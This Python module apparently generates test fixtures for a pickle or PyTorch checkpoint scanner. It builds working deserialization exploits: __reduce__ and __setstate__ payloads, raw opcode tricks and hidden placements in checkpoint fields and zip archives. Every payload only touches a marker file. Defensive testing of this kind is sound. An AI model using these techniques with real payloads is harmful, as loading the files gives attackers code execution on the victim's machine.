"""Hostile pickles, generated here (never committed): each creates ``marker`` if it runs.

Every builder returns (file name, bytes, how a plain loader would run it: "pickle" or
"torch"). The exploit of each is in its docstring.
"""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch


class SystemPayload:
    """__reduce__ -> os.system(touch marker)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, (f"touch {self.marker}",))


class ExecPayload:
    """__reduce__ -> builtins.exec(code)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (exec, (f"open({str(self.marker)!r}, 'w').close()",))


class EvalPayload:
    """__reduce__ -> builtins.eval(open(marker, 'w'))."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (eval, (f"open({str(self.marker)!r}, 'w').close()",))


class PopenPayload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (subprocess.Popen, (["touch", str(self.marker)],))


class SetStatePayload:
    """BUILD calls __setstate__, which runs code: needs only the class global."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __setstate__(self, state: dict) -> None:
        open(state["marker"], "w").close()


def _q(marker: Path) -> str:
    return f"touch {marker}"


def raw(name: str, body: bytes) -> Callable[[Path], tuple[str, bytes, str]]:
    def build(marker: Path) -> tuple[str, bytes, str]:
        return name, body.replace(b"MARKER", str(marker).encode()), "pickle"
    return build


RAW = {
    # protocol 0: GLOBAL os.system, REDUCE
    "p0-global-reduce": raw("a.pt", b"cos\nsystem\n(S'touch MARKER'\ntR."),
    # INST: find the class and call it with the marked arguments in one opcode
    "inst-opcode": raw("b.pt", b"(S'touch MARKER'\nios\nsystem\n."),
    # OBJ: class object on the stack, then called with the following arguments
    "obj-opcode": raw("c.pt", b"(cos\nsystem\nS'touch MARKER'\no."),
    # memo trick: the callable is stored with PUT, dropped, fetched with GET, then called
    "memo-smuggle": raw("d.pt", b"cos\nsystem\np0\n0g0\n(S'touch MARKER'\ntR."),
    # getattr chain: getattr(__import__('os'), 'system')('touch ...')
    "getattr-chain": raw("e.pt", b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'"
                         b"\ntR(S'touch MARKER'\ntR."),
    # eval of an expression that writes the marker
    "builtins-eval": raw("f.pt", b"cbuiltins\neval\n(S'open(\"MARKER\", \"w\").close()'\ntR."),
    # Python 2 module spelling: pickle maps __builtin__ to builtins
    "py2-module-name": raw("g.pt", b"c__builtin__\neval\n(S'open(\"MARKER\", \"w\").close()'\ntR."),
    # posix instead of os: the same function under its real module
    "posix-module": raw("h.pt", b"cposix\nsystem\n(S'touch MARKER'\ntR."),
}


def dumped(obj_fn: Callable[[Path], object], protocol: int) -> Callable[[Path], tuple[str, bytes,
                                                                                     str]]:
    def build(marker: Path) -> tuple[str, bytes, str]:
        return f"p{protocol}.bin", pickle.dumps(obj_fn(marker), protocol=protocol), "pickle"
    return build


def saved(obj_fn: Callable[[Path], object], legacy: bool = False, name: str = "m.bin"
          ) -> Callable[[Path], tuple[str, bytes, str]]:
    def build(marker: Path) -> tuple[str, bytes, str]:
        buf = io.BytesIO()
        torch.save(obj_fn(marker), buf,
                   **({"_use_new_zipfile_serialization": False} if legacy else {}))
        return name, buf.getvalue(), "torch"
    return build


def _numpy_object(marker: Path) -> object:
    import numpy as np

    return {"w": torch.ones(2), "extra": np.array([SystemPayload(marker)], dtype=object)}


def _nested(marker: Path) -> object:
    return {"a": {"b": {"c": [1, {"d": (SystemPayload(marker),)}]}}, "w": torch.ones(1)}


PAYLOADS: dict[str, Callable[[Path], tuple[str, bytes, str]]] = {
    **RAW,
    **{f"protocol-{p}": dumped(SystemPayload, p) for p in range(6)},
    "stack-global-p4-exec": dumped(ExecPayload, 4),
    "newobj-build-setstate": dumped(SetStatePayload, 2),
    "zip-os-system": saved(lambda m: {"w": torch.ones(2), "x": SystemPayload(m)}),
    "legacy-os-system": saved(lambda m: {"w": torch.ones(2), "x": SystemPayload(m)}, True),
    "zip-popen": saved(lambda m: {"w": torch.ones(2), "x": PopenPayload(m)}),
    "legacy-exec": saved(lambda m: {"w": torch.ones(2), "x": ExecPayload(m)}, True),
    "zip-nested-deep": saved(_nested),
    "zip-setstate": saved(lambda m: {"w": torch.ones(2), "x": SetStatePayload(m)}),
    "ckpt-optimizer-state": saved(lambda m: {"state_dict": {"w": torch.ones(2)},
                                             "optimizer_states": [SystemPayload(m)]},
                                  name="last.ckpt"),
    "ckpt-callbacks": saved(lambda m: {"state_dict": {"w": torch.ones(2)},
                                       "callbacks": {"Ckpt": PopenPayload(m)}}, name="a.ckpt"),
    "ckpt-hyper-parameters": saved(lambda m: {"state_dict": {"w": torch.ones(2)},
                                              "hyper_parameters": {"x": ExecPayload(m)}},
                                   name="b.ckpt"),
    "numpy-object-array": saved(_numpy_object),
}


def second_pickle_in_zip(marker: Path) -> bytes:
    """A clean checkpoint whose zip also carries archive/extra.pkl with a payload."""
    buf = io.BytesIO()
    torch.save({"w": torch.ones(3)}, buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in zin.infolist():
            z.writestr(info, zin.read(info))
        prefix = zin.namelist()[0].split("/")[0]
        z.writestr(f"{prefix}/extra.pkl", pickle.dumps(SystemPayload(marker)))
    return out.getvalue()


def appeared(marker: Path, timeout: float = 30.0) -> bool:
    """Whether ``marker`` exists, waiting for it up to ``timeout`` (a payload may start a
    process that writes it after the load returned): the file is the event, not a timer."""
    import time

    deadline = time.monotonic() + timeout
    while not marker.exists():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True

